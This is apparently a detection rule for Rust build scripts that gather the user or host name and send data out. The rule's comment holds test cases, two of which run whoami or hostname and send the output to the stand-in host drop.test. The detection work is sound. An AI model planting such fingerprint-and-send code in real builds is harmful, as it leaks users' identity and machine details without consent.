/*
Programs that name the user and the machine, beside a way out. Either alone is ordinary: a configure script asks for the host name,
a release is downloaded.

```rust,match
fn main() { let w = Command::new("whoami").output().unwrap(); let mut s = TcpStream::connect("drop.test:80").unwrap(); s.write_all(&w.stdout).unwrap(); }
```
```rust,match
fn main() { let h = Command::new("hostname").output().unwrap(); ureq::post("http://drop.test/").send_bytes(&h.stdout).unwrap(); }
```
```rust,clean
fn main() { let h = Command::new("hostname").output().unwrap(); println!("cargo:rustc-env=BUILD_HOST={:?}", h); }
```
```rust,clean
fn main() { let r = ureq::get("https://releases.example/v1.tar.gz").call().unwrap(); }
```
*/
rule host_described_and_sent : high {
  meta:
    id = "f03912b8-3b8d-41d0-b6b9-679737b7ce2c"
    description = "The machine is described and something is sent"
    author = "Sandpit"
    date = "2026-11-25"
    status = "stable"
    scope = "build-script"
    behaviours = "host-fingerprint"
    references = "incident 2022-11 rewqest, incident 2025-03 tree-sitter-pkl, T1082, T1033"
  strings:
    $who = /Command::new\s?\(\s?"(whoami|hostname|systeminfo|id|uname|ipconfig|ifconfig)(\.exe)?"/
    $crate = /\b(whoami::(username|realname|devicename|fallible)|hostname::get|gethostname\s?\()/
    $socket = /\b(TcpStream::connect|UdpSocket::bind)/
    $post = /\b(ureq|reqwest|minreq|attohttpc)::(blocking::)?(post|put|Client)/
    $method = /\.(post|put)\s?\(\s?[&"(]/
    $tool = /"curl"[^;]{0,200}"(-d|-F|-T|--data|--data-binary|--form|--upload-file)"/
  condition:
    any of ($who, $crate) and any of ($socket, $post, $method, $tool)
}
